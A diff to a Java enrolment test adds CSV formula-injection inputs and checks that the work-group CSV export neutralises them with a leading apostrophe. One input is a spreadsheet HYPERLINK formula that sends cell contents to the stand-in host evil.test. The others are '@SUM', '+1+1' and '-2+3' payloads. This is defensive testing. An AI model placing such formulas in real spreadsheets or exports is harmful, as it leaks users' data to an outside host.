@@ -156,7 +156,12 @@ class EnrolmentTest {
     void placesRunOutThenTheWaitingListTakesAFreedPlace() throws Exception {
         WorkGroupBrief group = group("Readiness 1");
         List<SchoolSummary> fresh = freshPrimaries("882", 9);
-        for (int i = 0; i < 8; i++) {
+        String hostile = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
+        enrolments.apply(new Enrolments.Application(group.id(), fresh.get(0).urn(), List.of(
+                new ParticipantInput(hostile, "first@" + fresh.get(0).urn() + ".test", "@SUM(1+1)", "Teacher", null),
+                new ParticipantInput("+1+1 Second", "second@" + fresh.get(0).urn() + ".test", "-2+3", "Maths lead", null)),
+                "head@" + fresh.get(0).urn() + ".test"));
+        for (int i = 1; i < 8; i++) {
             apply(group, fresh.get(i));
         }
         long waitingId = apply(group, fresh.get(8));
@@ -181,7 +186,9 @@ class EnrolmentTest {
 
         String csv = mvc.perform(get("/enrolment/work-groups/" + group.id() + ".csv").with(signedIn.as(SignedIn.HUB_LEAD)))
                 .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
-        assertThat(csv).startsWith("URN,School,Status,Eligible").contains(String.valueOf(fresh.get(8).urn()), "Not completed", "Withdrawn");
+        assertThat(csv).startsWith("\uFEFFURN,School,Status,Eligible").contains(String.valueOf(fresh.get(8).urn()), "Not completed", "Withdrawn");
+        assertThat(csv).as("formulas are neutralised").contains("'" + hostile.replace("\"", "\"\"")).doesNotContain("," + hostile)
+                .doesNotContain(",\"" + hostile);
     }
 
     @Test
